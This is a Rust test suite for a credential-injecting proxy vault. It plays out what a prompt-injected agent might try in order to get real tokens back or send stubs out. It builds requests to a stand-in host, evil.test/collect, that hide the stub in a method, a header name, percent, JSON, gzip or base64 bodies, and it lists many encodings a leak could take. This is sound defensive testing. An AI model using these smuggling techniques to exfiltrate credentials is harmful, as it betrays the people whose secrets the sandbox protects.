//! The adversarial suite of issue 14: what a prompt-injected agent would try to get a real value
//! out of the vault, or a stub past it.
//!
//! A fake *bound* upstream (`store.test`, TLS from a test CA on 127.0.0.1, reached through a real
//! in-process vault pinned there) stores whatever it is sent and serves it back in every routine
//! encoding ([`support::upstream::ENCODINGS`]) and every odd place (a header value or name, the reason
//! phrase, an HTTP/2 trailer, a non-101 answer to an upgrade, `Range` slices, fragmented WebSocket
//! frames), over HTTP/1.1, HTTP/2 and WebSocket. A fake *unbound* upstream (`evil.test`) records every
//! byte it is sent before parsing anything, so "not one byte of the stub" is checked on the wire.
//!
//! What must hold (the issue's "what must be shown"):
//! - with the default injection point (the auth header), the only channel that can store a real
//!   value is the auth header itself, and what comes back of it is scrubbed in every encoding;
//! - a stub anywhere else in a request to a bound host is refused (403, `X-Lap-Vault-Blocked:
//!   credential-not-injectable`), alerted, and the upstream never holds the real value;
//! - with `body` injection opted in, the hole docs/security.md names exists (a split or compressed value
//!   comes back real) while the recognised encodings are still scrubbed — base64 wrapped across
//!   lines too, as GitHub's contents API, PEM and MIME hand a stored file back;
//! - a stub toward an unbound host, in any odd place or encoding, is blocked and alerted and the
//!   host receives none of its bytes.
//!
//! Nothing here leaves 127.0.0.1: every name is pinned by the vault's resolve overrides.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use lap::secret::Secret;
use lap::vault::ca::CertificateAuthority;
use lap::vault::intercept::{Binding, Credential, ResolveOverride, Vault};
use lap::vault::policy::Policy;
use tokio_util::sync::CancellationToken;

use crate::support;
use crate::support::upstream::{ENCODINGS, MARKER, Seen, TRANSFORMS, WRAPPED, store_upstream, tap_upstream};

/// A GitHub-shaped token (token characters only, so it can be a header name).
const GH_STUB: &str = "stub_github_token_5e1d2c3b4a";
const GH_REAL: &str = "ghp_R3alT0kenQz9xW7vK2mN5pL8sJ4";
/// An API key with the characters encoders treat specially (`/`, `+`).
const KEY_STUB: &str = "stub_store_api_key_9a8b7c6d";
const KEY_REAL: &str = "Zk9/pQ+r7Tw2/Yx8vBn4Lm6Hj3Gf";

/// How long one exchange may take before the test says which one hung.
const EXCHANGE: Duration = Duration::from_secs(20);
/// How long a connection must stay quiet after an answer began for the answer to count as whole.
const QUIET: Duration = Duration::from_millis(500);

/// A credential with its injection points, in their string form (`authorization`, `body`, ...).
fn credential(name: &str, stub: &str, real: &str, hosts: &[&str], inject: &[&str]) -> Credential {
    Credential {
        name: name.into(),
        stub: stub.into(),
        value: Secret::new(real),
        hosts: hosts.iter().map(|h| (*h).to_owned()).collect(),
        inject: inject.iter().map(|i| i.parse().expect("an injection point")).collect(),
        rules: Vec::new(),
    }
}

struct World {
    proxy: SocketAddr,
    binding: Arc<Binding>,
    /// The bound store upstream, HTTP/1.1 only (reason phrases, `Transfer-Encoding`).
    store_h1: u16,
    /// The bound store upstream offering HTTP/2 (trailers).
    store_h2: u16,
    /// The bound WebSocket upstream.
    store_ws: u16,
    /// The unbound tap, TLS and plain.
    tap_tls: u16,
    tap_plain: u16,
    /// The unbound WebSocket tap.
    tap_ws: u16,
    vault_ca: std::path::PathBuf,
    stored: Arc<Mutex<Vec<Seen>>>,
    tapped: Arc<Mutex<Vec<u8>>>,
    _dir: tempfile::TempDir,
    _stop: tokio_util::sync::DropGuard,
}

/// The world with the default injection point for both bound credentials, or with `inject` for
/// each.
async fn world(inject: &[&str]) -> World {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let dir = tempfile::tempdir().unwrap();
    let public_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("public-ca")).unwrap());
    let vault_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("vault")).unwrap());
    let stored = Arc::new(Mutex::new(Vec::new()));
    let tapped = Arc::new(Mutex::new(Vec::new()));
    let store_h1 = store_upstream(public_ca.clone(), stored.clone(), &[b"http/1.1"]).await;
    let store_h2 = store_upstream(public_ca.clone(), stored.clone(), &[b"h2", b"http/1.1"]).await;
    let store_ws = websocket::store(public_ca.clone(), stored.clone()).await;
    let tap_tls = tap_upstream(public_ca.clone(), tapped.clone(), true).await;
    let tap_plain = tap_upstream(public_ca.clone(), tapped.clone(), false).await;
    let tap_ws = websocket::tap(public_ca.clone(), tapped.clone()).await;
    let loopback = "127.0.0.1".parse().unwrap();
    let resolve = ["store.test", "evil.test"]
        .into_iter()
        .flat_map(|host| {
            [store_h1, store_h2, store_ws, tap_tls, tap_plain, tap_ws].map(|port| ResolveOverride {
                host: host.into(),
                port,
                addr: loopback,
            })
        })
        .collect();
    let root = rustls_pki_types::pem::PemObject::from_pem_slice(public_ca.cert_pem().as_bytes()).unwrap();
    let vault = Arc::new(Vault::new(vault_ca.clone(), resolve, vec![root]).unwrap());
    let inject = if inject.is_empty() {
        &["authorization"][..]
    } else {
        inject
    };
    let binding = Arc::new(Binding::new(
        vec![
            credential("GITHUB_TOKEN", GH_STUB, GH_REAL, &["store.test"], inject),
            credential("STORE_API_KEY", KEY_STUB, KEY_REAL, &["store.test"], inject),
        ],
        Policy::new(&[], &[]),
    ));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy = listener.local_addr().unwrap();
    let stop = CancellationToken::new();
    tokio::spawn(vault.serve(listener, binding.clone(), stop.clone()));
    let ca_file = dir.path().join("vault-ca.pem");
    std::fs::write(&ca_file, vault_ca.cert_pem()).unwrap();
    World {
        proxy,
        binding,
        store_h1,
        store_h2,
        store_ws,
        tap_tls,
        tap_plain,
        tap_ws,
        vault_ca: ca_file,
        stored,
        tapped,
        _dir: dir,
        _stop: stop.drop_guard(),
    }
}

impl World {
    async fn curl(&self, args: &[&str]) -> (u16, String) {
        tokio::time::timeout(EXCHANGE, support::upstream::curl(self.proxy, &self.vault_ca, args))
            .await
            .unwrap_or_else(|_| panic!("curl {args:?} through the vault did not finish in {EXCHANGE:?}"))
    }

    /// [`Self::curl`], with the bytes curl printed as they are (a binary body intact).
    async fn curl_bytes(&self, args: &[&str]) -> (u16, Vec<u8>) {
        let mut cmd = tokio::process::Command::new("curl");
        cmd.args(["-sS", "-i", "--proxy", &format!("http://{}", self.proxy), "--cacert"])
            .arg(&self.vault_ca)
            .args(["-w", "\n%{http_code}"])
            .args(args);
        for name in ["HTTPS_PROXY", "https_proxy", "NO_PROXY", "no_proxy"] {
            cmd.env_remove(name);
        }
        let out = tokio::time::timeout(EXCHANGE, cmd.output())
            .await
            .unwrap_or_else(|_| panic!("curl {args:?} through the vault did not finish in {EXCHANGE:?}"))
            .expect("curl (scripts/test.sh installs it)");
        let mut bytes = out.stdout;
        let split = bytes.iter().rposition(|b| *b == b'\n').unwrap_or(0);
        let status = String::from_utf8_lossy(&bytes[split..]).trim().parse().unwrap_or(0);
        bytes.truncate(split);
        bytes.extend_from_slice(&out.stderr);
        (status, bytes)
    }

    fn stored(&self) -> Vec<Seen> {
        self.stored.lock().unwrap().clone()
    }

    fn tapped(&self) -> Vec<u8> {
        self.tapped.lock().unwrap().clone()
    }

    /// Whether the upstream's log holds `real` anywhere (path, a header name or value, the body).
    fn log_holds(&self, real: &str) -> bool {
        self.stored().iter().any(|s| {
            s.path.contains(real)
                || s.headers
                    .iter()
                    .any(|(n, v)| n.contains(&real.to_ascii_lowercase()) || v.contains(real))
                || s.body.windows(real.len()).any(|w| w == real.as_bytes())
        })
    }

    /// The records the vault alerted on, for `host`.
    fn alerts(&self, host: &str) -> Vec<lap::vault::audit::Interception> {
        self.binding
            .audit
            .recent()
            .into_iter()
            .filter(|r| r.alert && r.host == host)
            .collect()
    }

    /// Stores `Authorization: Bearer <stub>` at the store (over `version`) and checks the upstream
    /// got the real value there: the one place the default injection point swaps it.
    async fn store_auth(&self, version: &str, port: u16, stub: &str, real: &str) {
        let url = format!("https://store.test:{port}/issues");
        let auth = format!("Authorization: Bearer {stub}");
        let (status, output) = self
            .curl(&[version, "-X", "POST", "-H", &auth, "--data", "title=hi", &url])
            .await;
        assert_eq!(status, 201, "the store accepts the auth header: {output}");
        let last = self.stored().pop().unwrap();
        assert_eq!(
            last.header("authorization"),
            Some(format!("Bearer {real}").as_str()),
            "the stub in the auth header is swapped at the bound host"
        );
    }
}

/// The forms of `real` that must never reach the sandbox, by name: literal (any case), base64
/// (standard and URL-safe, padded or not, at each of the three alignments: the characters that
/// depend on `real` alone), hex in both cases, percent-encoding of every byte in both cases, JSON
/// `\u` escapes, and the masked form's real characters (any 8 in a row, or the last 4 after a mask).
/// Base64 is looked for in the text as it is and with its line breaks (raw or JSON-escaped) removed,
/// as a client reading a wrapped blob does.
fn leaks(output: &[u8], real: &str) -> Vec<String> {
    let text = String::from_utf8_lossy(output);
    let lower = text.to_ascii_lowercase();
    let unwrapped = text.replace("\r\n", "").replace("\\n", "").replace('\n', "");
    let mut found = Vec::new();
    if lower.contains(&real.to_ascii_lowercase()) {
        found.push("literal".to_owned());
    }
    for (name, engine) in [
        ("b64-std", &STANDARD),
        ("b64-std-nopad", &STANDARD_NO_PAD),
        ("b64-url", &URL_SAFE),
        ("b64-url-nopad", &URL_SAFE_NO_PAD),
    ] {
        for offset in 0..3 {
            let mut blob = vec![0u8; offset];
            blob.extend_from_slice(real.as_bytes());
            let encoded = engine.encode(&blob);
            // Drop the characters the filler before and the bytes after can change.
            let core = &encoded[4..encoded.len().saturating_sub(4)];
            if text.contains(core) {
                found.push(format!("{name}-{offset}"));
            } else if unwrapped.contains(core) {
                found.push(format!("{name}-{offset} wrapped across lines"));
            }
        }
    }
    let hex: String = real.bytes().map(|b| format!("{b:02x}")).collect();
    if lower.contains(&hex) {
        found.push("hex".to_owned());
    }
    let percent: String = real.bytes().map(|b| format!("%{b:02x}")).collect();
    if lower.contains(&percent) {
        found.push("percent".to_owned());
    }
    let form: String = real
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_ascii_lowercase().to_string()
            } else {
                format!("%{b:02x}")
            }
        })
        .collect();
    if form != real.to_ascii_lowercase() && lower.contains(&form) {
        found.push("form".to_owned());
    }
    let json: String = real.bytes().map(|b| format!("\\u{b:04x}")).collect();
    if lower.contains(&json) {
        found.push("json-u".to_owned());
    }
    let slash = real.replace('/', "\\/");
    if slash != real && text.contains(&slash) {
        found.push("json-slash".to_owned());
    }
    let chars: Vec<char> = real.chars().collect();
    if let Some(window) = chars
        .windows(8)
        .map(|w| w.iter().collect::<String>())
        .find(|w| text.contains(w.as_str()))
    {
        found.push(format!("fragment `{window}`"));
    }
    let tail: String = chars[chars.len() - 4..].iter().collect();
    if text.contains(&format!("*{tail}")) {
        found.push("masked tail".to_owned());
    }
    found
}

/// The curl arguments that make curl decode what `encoding` needs decoding, as a client would.
fn decode_args(encoding: &str) -> &'static [&'static str] {
    match encoding {
        "gzip" | "deflate" | "br" | "zstd" => &["--compressed"],
        "te-gzip" => &["--tr-encoding"],
        _ => &[],
    }
}

/// Serves the stored auth value back in every encoding over `version` and returns each encoding
/// that leaked (with what leaked) or did not arrive.
async fn sweep(w: &World, version: &str, port: u16, real: &str, encodings: &[&str]) -> Vec<String> {
    let mut failures = Vec::new();
    for encoding in encodings {
        let url = format!("https://store.test:{port}/serve/auth/{encoding}");
        let mut args = vec![version];
        args.extend_from_slice(decode_args(encoding));
        args.push(&url);
        let (status, output) = w.curl_bytes(&args).await;
        let mut found = leaks(&output, real);
        // A gzip body the client was not told about (e.g. a transfer coding the vault dropped) is
        // still the client's to unzip.
        if let Some(start) = output.windows(2).position(|w| w == [0x1f, 0x8b]) {
            found.extend(
                leaks(&gunzip(&output[start..]), real)
                    .into_iter()
                    .map(|l| format!("{l} inside gzip")),
            );
        }
        let output = String::from_utf8_lossy(&output).into_owned();
        if !found.is_empty() {
            failures.push(format!("{encoding}: leaked as {found:?} (status {status})"));
        } else if !output.contains(MARKER) {
            failures.push(format!(
                "{encoding}: the answer did not arrive (status {status}): {}",
                output.chars().take(300).collect::<String>()
            ));
        }
    }
    failures
}

#[tokio::test(flavor = "multi_thread")]
async fn default_injection_the_stored_auth_header_never_comes_back_real_over_http1() {
    let w = world(&[]).await;
    let mut failures = Vec::new();
    for (stub, real) in [(GH_STUB, GH_REAL), (KEY_STUB, KEY_REAL)] {
        w.store_auth("--http1.1", w.store_h1, stub, real).await;
        for failure in sweep(&w, "--http1.1", w.store_h1, real, ENCODINGS).await {
            failures.push(format!("{real}: {failure}"));
        }
    }
    assert!(failures.is_empty(), "over HTTP/1.1:\n{}", failures.join("\n"));
}

#[tokio::test(flavor = "multi_thread")]
async fn default_injection_the_stored_auth_header_never_comes_back_real_over_http2() {
    let w = world(&[]).await;
    // Reason phrases and transfer codings do not exist in HTTP/2.
    let encodings: Vec<&str> = ENCODINGS
        .iter()
        .copied()
        .filter(|e| !matches!(*e, "reason" | "te-gzip"))
        .collect();
    let mut failures = Vec::new();
    for (stub, real) in [(GH_STUB, GH_REAL), (KEY_STUB, KEY_REAL)] {
        w.store_auth("--http2", w.store_h2, stub, real).await;
        for failure in sweep(&w, "--http2", w.store_h2, real, &encodings).await {
            failures.push(format!("{real}: {failure}"));
        }
    }
    assert!(failures.is_empty(), "over HTTP/2:\n{}", failures.join("\n"));
}

/// A TLS connection through the vault's CONNECT tunnel to `host:port`, offering `alpn`.
async fn tunnel(
    w: &World,
    host: &str,
    port: u16,
    alpn: &[u8],
) -> tokio_rustls::client::TlsStream<tokio::net::TcpStream> {
    support::upstream::tunnel(w.proxy, &w.vault_ca, host, port, &[alpn]).await
}

/// Everything an answer showed the client: status line, header names and values, body, trailers.
async fn everything(response: hyper::Response<hyper::body::Incoming>) -> (u16, String) {
    use http_body_util::BodyExt;
    let mut text = format!("{} ", response.status().as_u16());
    if let Some(reason) = response.extensions().get::<hyper::ext::ReasonPhrase>() {
        text.push_str(&String::from_utf8_lossy(reason.as_bytes()));
    }
    text.push('\n');
    for (name, value) in response.headers() {
        text.push_str(&format!("{name}: {}\n", String::from_utf8_lossy(value.as_bytes())));
    }
    let status = response.status().as_u16();
    let collected = response.into_body().collect().await.expect("the body arrives");
    if let Some(trailers) = collected.trailers() {
        for (name, value) in trailers {
            text.push_str(&format!(
                "trailer {name}: {}\n",
                String::from_utf8_lossy(value.as_bytes())
            ));
        }
    }
    text.push_str(&String::from_utf8_lossy(&collected.to_bytes()));
    (status, text)
}

#[tokio::test(flavor = "multi_thread")]
async fn http2_trailers_of_a_bound_host_carry_no_real_value() {
    let w = world(&[]).await;
    w.store_auth("--http2", w.store_h2, GH_STUB, GH_REAL).await;
    let tls = tunnel(&w, "store.test", w.store_h2, b"h2").await;
    let (mut sender, conn) =
        hyper::client::conn::http2::handshake(hyper_util::rt::TokioExecutor::new(), hyper_util::rt::TokioIo::new(tls))
            .await
            .unwrap();
    tokio::spawn(conn);
    let request = hyper::Request::get(format!("https://store.test:{}/serve/auth/trailer", w.store_h2))
        .header("te", "trailers")
        .body(http_body_util::Empty::<hyper::body::Bytes>::new())
        .unwrap();
    let response = tokio::time::timeout(EXCHANGE, sender.send_request(request))
        .await
        .expect("the vault answers in time")
        .expect("the vault answers");
    let (status, text) = everything(response).await;
    assert_eq!(leaks(text.as_bytes(), GH_REAL), Vec::<String>::new(), "{text}");
    assert_eq!(status, 200, "{text}");
    assert!(text.contains(MARKER), "{text}");
}

#[tokio::test(flavor = "multi_thread")]
async fn range_slices_of_a_stored_value_never_carry_a_piece_of_it() {
    let w = world(&[]).await;
    let mut failures = Vec::new();
    for (version, port) in [("--http1.1", w.store_h1), ("--http2", w.store_h2)] {
        w.store_auth(version, port, GH_STUB, GH_REAL).await;
        let url = format!("https://store.test:{port}/serve/auth/literal");
        let mut whole = String::new();
        for from in (0..120).step_by(7) {
            let range = format!("{from}-{}", from + 6);
            let (status, output) = w.curl(&[version, "-r", &range, &url]).await;
            let body = output.split("\r\n\r\n").last().unwrap_or_default();
            let body = body.rsplit_once('\n').map_or(body, |(b, _)| b);
            whole.push_str(body);
            let found = leaks(output.as_bytes(), GH_REAL);
            if !found.is_empty() {
                failures.push(format!("{version} range {range} (status {status}): {found:?}"));
            }
        }
        // Seven-byte slices pass any literal check one by one; reassembled they must not be real.
        let found = leaks(whole.as_bytes(), GH_REAL);
        if !found.is_empty() {
            failures.push(format!("{version}: the slices reassemble to {found:?}: {whole}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_non_101_answer_to_a_websocket_upgrade_is_scrubbed_like_any_other() {
    let w = world(&[]).await;
    let mut failures = Vec::new();
    for (version, port) in [("--http1.1", w.store_h1), ("--http1.1", w.store_h2)] {
        let url = format!("https://store.test:{port}/upgrade");
        // `-u x:$TOKEN`: Basic with the stub as the password, the default injection point.
        let user = format!("x:{GH_STUB}");
        let (status, output) = w
            .curl(&[
                version,
                "-u",
                &user,
                "-H",
                "Connection: Upgrade",
                "-H",
                "Upgrade: websocket",
                "-H",
                "Sec-WebSocket-Version: 13",
                "-H",
                "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
                &url,
            ])
            .await;
        let basic = STANDARD.encode(format!("x:{GH_REAL}"));
        let mut found = leaks(output.as_bytes(), GH_REAL);
        if output.contains(&basic) {
            found.push("the real Basic credentials".into());
        }
        if !found.is_empty() {
            failures.push(format!("upstream port {port} (status {status}): {found:?}"));
        } else if !output.contains(MARKER) {
            failures.push(format!("upstream port {port}: no answer (status {status}): {output}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[tokio::test(flavor = "multi_thread")]
async fn websocket_frames_fragmented_never_carry_the_real_value_back() {
    use futures_util::StreamExt;
    let w = world(&[]).await;
    let mut ws = websocket::connect(&w, "store.test", w.store_ws, Some(GH_STUB)).await;
    let mut received = Vec::new();
    let deadline = tokio::time::Instant::now() + EXCHANGE;
    while received.len() < websocket::SERVED.len() {
        let next = tokio::time::timeout_at(deadline, ws.next()).await;
        match next {
            Ok(Some(Ok(message))) if message.is_text() || message.is_binary() => {
                received.push(message.into_data().to_vec())
            }
            Ok(Some(Ok(_))) => {}
            other => panic!("the socket ended after {} messages: {other:?}", received.len()),
        }
    }
    let handshake = w
        .stored()
        .into_iter()
        .find(|s| s.version == "websocket")
        .expect("the handshake");
    assert_eq!(
        handshake.header("authorization"),
        Some(format!("Bearer {GH_REAL}").as_str()),
        "the handshake's auth header is swapped"
    );
    let failures: Vec<String> = websocket::SERVED
        .iter()
        .zip(&received)
        .filter_map(|(name, payload)| {
            let found = leaks(payload, GH_REAL);
            (!found.is_empty()).then(|| format!("{name}: {found:?}"))
        })
        .collect();
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A request that carries `stub` somewhere other than the auth header, and where.
fn misplaced(stub: &str) -> Vec<(&'static str, Vec<String>, String)> {
    let path = |p: &str| format!("/notes{p}");
    vec![
        (
            "the body",
            vec!["--data".into(), format!("{{\"note\":\"{stub}\"}}")],
            path(""),
        ),
        ("a query parameter", Vec::new(), path(&format!("?note={stub}"))),
        ("another header", vec!["-H".into(), format!("X-Note: {stub}")], path("")),
        ("a header name", vec!["-H".into(), format!("{stub}: 1")], path("")),
        ("the path", Vec::new(), path(&format!("/{stub}"))),
        (
            "a cookie",
            vec!["-H".into(), format!("Cookie: session={stub}")],
            path(""),
        ),
        (
            "the auth header, after the token",
            vec!["-H".into(), format!("Authorization: Bearer ok {stub}")],
            path(""),
        ),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stub_anywhere_but_the_auth_header_of_a_bound_host_is_refused_alerted_and_never_stored() {
    let w = world(&[]).await;
    let mut failures = Vec::new();
    for (version, port) in [("--http1.1", w.store_h1), ("--http2", w.store_h2)] {
        for (place, args, path) in misplaced(GH_STUB) {
            let alerts_before = w.alerts("store.test").len();
            let url = format!("https://store.test:{port}{path}");
            let mut all: Vec<&str> = vec![version];
            all.extend(args.iter().map(String::as_str));
            all.push(&url);
            let (status, output) = w.curl(&all).await;
            let blocked = output
                .to_ascii_lowercase()
                .contains("x-lap-vault-blocked: credential-not-injectable");
            let alerted = w.alerts("store.test").len() > alerts_before;
            if status != 403 || !blocked || !alerted || !output.contains("GITHUB_TOKEN") {
                failures.push(format!(
                    "{version} {place}: status {status}, blocked header {blocked}, alert {alerted}: {}",
                    output.lines().take(12).collect::<Vec<_>>().join(" | ")
                ));
            }
        }
    }
    if w.log_holds(GH_REAL) {
        failures.push("the upstream's log holds the real value".into());
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_http2_request_trailer_with_a_stub_to_a_bound_host_is_refused_and_never_stored() {
    use http_body_util::StreamBody;
    use hyper::body::{Bytes, Frame};
    let w = world(&[]).await;
    let tls = tunnel(&w, "store.test", w.store_h2, b"h2").await;
    let (mut sender, conn) =
        hyper::client::conn::http2::handshake(hyper_util::rt::TokioExecutor::new(), hyper_util::rt::TokioIo::new(tls))
            .await
            .unwrap();
    tokio::spawn(conn);
    let mut trailers = hyper::HeaderMap::new();
    trailers.insert("x-note", GH_STUB.parse().unwrap());
    let frames = vec![
        Ok::<_, std::convert::Infallible>(Frame::data(Bytes::from_static(b"hello"))),
        Ok(Frame::trailers(trailers)),
    ];
    let request = hyper::Request::post(format!("https://store.test:{}/notes", w.store_h2))
        .body(StreamBody::new(futures_util::stream::iter(frames)))
        .unwrap();
    let response = tokio::time::timeout(EXCHANGE, sender.send_request(request)).await;
    if let Ok(Ok(response)) = response {
        assert_eq!(response.status(), 403, "{response:?}");
        assert_eq!(response.headers()["x-lap-vault-blocked"], "credential-not-injectable");
    }
    assert!(!w.alerts("store.test").is_empty(), "the trailer's stub is alerted");
    assert!(!w.log_holds(GH_REAL), "the upstream's log holds the real value");
}

/// The stub's base64 cores (as [`leaks`] cuts the real value's) in `output` read without its line
/// breaks: where the vault put the stub in place of the real value.
fn stub_core_in(output: &[u8], stub: &str) -> bool {
    let text = String::from_utf8_lossy(output);
    let unwrapped = text.replace("\r\n", "").replace("\\n", "").replace('\n', "");
    (0..3).any(|offset| {
        let mut blob = vec![0u8; offset];
        blob.extend_from_slice(stub.as_bytes());
        let encoded = STANDARD.encode(&blob);
        unwrapped.contains(&encoded[4..encoded.len() - 4])
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn body_injection_a_stored_file_served_back_in_wrapped_base64_never_comes_back_real() {
    // The agent writes its stub into a file on the bound host (body injection opted in), then
    // reads the file back the way GitHub's contents API, a PEM file or a MIME message hands it:
    // base64 in lines of 60, 64 or 76 characters, with the value split by a line break.
    let w = world(&["authorization", "body"]).await;
    let url = format!("https://store.test:{}/repos/acme/notes/contents/notes.txt", w.store_h1);
    let (status, output) = w
        .curl(&["--http1.1", "-X", "PUT", "--data-binary", GH_STUB, &url])
        .await;
    assert_eq!(status, 201, "body injection is opted in: {output}");
    assert!(
        w.log_holds(GH_REAL),
        "the stub in the body is swapped at the bound host"
    );
    let mut failures = Vec::new();
    for (version, port) in [("--http1.1", w.store_h1), ("--http2", w.store_h2)] {
        for encoding in WRAPPED {
            let url = format!("https://store.test:{port}/serve/body/{encoding}");
            let (status, output) = w.curl_bytes(&[version, &url]).await;
            let found = leaks(&output, GH_REAL);
            if !found.is_empty() {
                failures.push(format!("{version} {encoding} (status {status}): leaked as {found:?}"));
            } else if !String::from_utf8_lossy(&output).contains(MARKER) {
                failures.push(format!(
                    "{version} {encoding}: the answer did not arrive (status {status})"
                ));
            } else if !stub_core_in(&output, GH_STUB) {
                failures.push(format!("{version} {encoding}: the stub is not in the value's place"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[tokio::test(flavor = "multi_thread")]
async fn body_injection_opted_in_reopens_read_back_in_transformed_forms_but_still_scrubs_the_routine_ones() {
    let w = world(&["authorization", "body"]).await;
    let url = format!("https://store.test:{}/notes", w.store_h1);
    // The body is the stub alone, so what is stored is the real value alone.
    let (status, output) = w
        .curl(&[
            "--http1.1",
            "-H",
            "Content-Type: text/plain",
            "--data-binary",
            GH_STUB,
            &url,
        ])
        .await;
    assert_eq!(status, 201, "body injection is opted in: {output}");
    assert!(
        w.log_holds(GH_REAL),
        "the stub in the body is swapped at the bound host"
    );
    // The hole docs/security.md names: a transformation the vault cannot know brings the value back.
    let mut reopened = Vec::new();
    for transform in TRANSFORMS {
        let url = format!("https://store.test:{}/serve/body/{transform}", w.store_h1);
        let (status, output) = w.curl_bytes(&["--http1.1", &url]).await;
        assert_eq!(status, 200, "{}", String::from_utf8_lossy(&output));
        let text = String::from_utf8_lossy(&output).into_owned();
        let half = GH_REAL.len() / 2;
        let back = match *transform {
            "split" => text.contains(&GH_REAL[..half]) && text.contains(&GH_REAL[half..]),
            _ => String::from_utf8_lossy(&inflate_after_marker(&output)).contains(GH_REAL),
        };
        reopened.push((*transform, back));
    }
    assert_eq!(
        reopened,
        vec![("split", true), ("zlib-binary", true)],
        "docs/security.md says body injection re-opens store-and-read-back in forms the vault cannot recognise"
    );
    // The routine encodings stay scrubbed. The body holds the JSON around the value; what comes
    // back is that JSON, encoded.
    let routine: Vec<&str> = ENCODINGS
        .iter()
        .copied()
        .filter(|e| !matches!(*e, "header-name" | "masked"))
        .collect();
    let mut failures = Vec::new();
    for encoding in routine {
        let url = format!("https://store.test:{}/serve/body/{encoding}", w.store_h1);
        let mut args = vec!["--http1.1"];
        args.extend_from_slice(decode_args(encoding));
        args.push(&url);
        let (status, output) = w.curl(&args).await;
        // The stored body holds the value at an offset of its own: check every alignment.
        let found = leaks(output.as_bytes(), GH_REAL);
        if !found.is_empty() {
            failures.push(format!("{encoding} (status {status}): {found:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// The stub toward the unbound host, in each odd place: (what, raw HTTP/1.1 request bytes).
fn odd_requests(port: u16) -> Vec<(&'static str, Vec<u8>)> {
    let host = format!("evil.test:{port}");
    let post = |content: &[u8], extra: &str| {
        let mut request = format!(
            "POST /collect HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/octet-stream\r\n{extra}Content-Length: {}\r\n\r\n",
            content.len()
        )
        .into_bytes();
        request.extend_from_slice(content);
        request
    };
    let percent: String = GH_STUB.bytes().map(|b| format!("%{b:02X}")).collect();
    let json: String = GH_STUB.bytes().map(|b| format!("\\u{b:04x}")).collect();
    let mut cases = vec![
        (
            "the method",
            format!("{GH_STUB} /collect HTTP/1.1\r\nHost: {host}\r\n\r\n").into_bytes(),
        ),
        (
            "a header name",
            format!("GET /collect HTTP/1.1\r\nHost: {host}\r\n{GH_STUB}: 1\r\n\r\n").into_bytes(),
        ),
        ("a percent-encoded body", post(format!("note={percent}").as_bytes(), "")),
        (
            "a JSON-escaped body",
            post(format!("{{\"note\":\"{json}\"}}").as_bytes(), ""),
        ),
        (
            "a gzip request body",
            post(
                &gzip(format!("{{\"note\":\"{GH_STUB}\"}}").as_bytes()),
                "Content-Encoding: gzip\r\n",
            ),
        ),
    ];
    for (name, engine) in [("standard", &STANDARD), ("URL-safe", &URL_SAFE_NO_PAD)] {
        for offset in 0..3 {
            let mut blob = b"xyz"[..offset].to_vec();
            blob.extend_from_slice(GH_STUB.as_bytes());
            let what: &'static str = Box::leak(format!("a {name} base64 body at offset {offset}").into_boxed_str());
            cases.push((what, post(engine.encode(&blob).as_bytes(), "")));
        }
    }
    cases
}

/// What a client makes of the zlib stream in a binary body (as a git client reads a pack): inflated
/// by Python's `zlib`, from its first zlib header on.
fn inflate_after_marker(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let script = "import sys, zlib\nd = sys.stdin.buffer.read()\ni = d.find(bytes([0x78, 0x9c]))\n\
                  sys.stdout.buffer.write(zlib.decompressobj().decompress(d[i:]) if i >= 0 else b'')";
    let mut child = std::process::Command::new("python3")
        .args(["-c", script])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("python3");
    let _ = child.stdin.take().unwrap().write_all(data);
    child.wait_with_output().map(|o| o.stdout).unwrap_or_default()
}

/// What `gzip -dc` makes of `data` (as much as it can: trailing bytes that are not gzip are ignored).
fn gunzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut child = std::process::Command::new("gzip")
        .args(["-dc"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("gzip");
    let _ = child.stdin.take().unwrap().write_all(data);
    child.wait_with_output().map(|o| o.stdout).unwrap_or_default()
}

/// gzip of `data`, by the system's `gzip`.
fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut child = std::process::Command::new("gzip")
        .args(["-c", "-n"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("gzip");
    child.stdin.take().unwrap().write_all(data).unwrap();
    child.wait_with_output().unwrap().stdout
}

/// Whether the tap received any form of the stub: its first eight bytes, or an encoded form whole.
fn stub_bytes_in(tapped: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(tapped);
    let mut found = Vec::new();
    if text.contains(&GH_STUB[..8]) || text.contains(&GH_STUB[GH_STUB.len() - 8..]) {
        found.push("literal".to_owned());
    }
    found.extend(
        leaks(tapped, GH_STUB)
            .into_iter()
            .filter(|l| !l.starts_with("fragment")),
    );
    let zipped = gzip(GH_STUB.as_bytes());
    // The deflate stream only (gzip's 10-byte header is the same for any content).
    let deflated = &zipped[10..zipped.len() - 8];
    if tapped.windows(10).any(|w| deflated.windows(10).any(|g| g == w)) {
        found.push("gzip".to_owned());
    }
    found
}

